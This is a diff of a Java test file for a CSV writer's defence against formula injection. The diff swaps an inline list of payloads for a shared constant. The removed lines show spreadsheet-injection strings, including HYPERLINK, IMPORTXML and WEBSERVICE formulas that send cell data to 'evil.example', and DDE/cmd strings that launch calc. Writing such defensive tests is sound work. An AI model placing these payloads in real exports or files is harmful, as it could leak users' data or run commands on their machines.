@@ -5,33 +5,15 @@ import static org.assertj.core.api.Assertions.assertThat;
 import java.util.ArrayList;
 import java.util.List;
 import java.util.stream.Stream;
+import org.countersign.testing.Steering;
 import org.junit.jupiter.api.Test;
 
 class CsvLineTests {
 
-    private static final List<String> STARTS = List.of(
-            "=", "+", "-", "@", "\t", "\r", "\n", "\t=", "\r\n=", " =", "\u00a0=", "\u3000+", "\u0000=", "\ufeff=", "＝",
-            "＋", "－", "＠", "  -", "\u000b@");
-
-    private static final List<String> BODIES = List.of(
-            "1+1",
-            "cmd|' /C calc'!A0",
-            "HYPERLINK(\"http://evil.example?x=\"&A1,\"Error\")",
-            "IMPORTXML(CONCAT(\"http://evil.example\",A1),\"//a\")",
-            "WEBSERVICE(\"http://evil.example\")",
-            "DDE(\"cmd\";\"/C calc\";\"x\")",
-            "SUM(1,1)\",=1+1,\"",
-            "1+1\"\r\n=2+2",
-            "2+5+cmd|' /C calc'!'A1'",
-            "@SUM(1+9)*cmd|' /C calc'!A0");
-
     @Test
     void noneOf200PayloadsStartsACell() {
-        List<String> payloads = STARTS.stream()
-                .flatMap(start -> BODIES.stream().map(body -> start + body))
-                .toList();
-        assertThat(payloads).hasSize(200);
-        assertThat(payloads).allSatisfy(payload -> {
+        assertThat(Steering.TEXTS).hasSize(200);
+        assertThat(Steering.TEXTS).allSatisfy(payload -> {
             List<List<String>> rows = parsed(CsvLine.of("before", payload, "after"));
             assertThat(rows).hasSize(1);
             assertThat(rows.getFirst()).containsExactly("before", "'" + payload, "after");
